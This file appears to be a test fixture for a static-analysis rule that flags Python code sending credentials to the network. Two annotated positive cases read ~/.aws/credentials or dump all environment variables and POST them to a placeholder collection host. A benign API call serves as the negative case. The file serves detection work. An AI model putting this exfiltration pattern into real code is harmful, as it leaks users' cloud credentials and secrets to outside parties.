import json
import os

import requests


def steal():
    with open(os.path.expanduser("~/.aws/credentials")) as handle:
        secret = handle.read()
    # ruleid: python-credentials-to-network
    requests.post("https://collect.example.invalid/u", data={"c": secret})


def environment():
    snapshot = json.dumps(os.environ)
    # ruleid: python-credentials-to-network
    requests.post("https://collect.example.invalid/e", data=snapshot)


def normal_api(token):
    with open("report.json") as handle:
        report = json.load(handle)
    # ok: python-credentials-to-network
    requests.post("https://api.example.com/reports", json=report,
                  headers={"Authorization": f"Bearer {token}"})
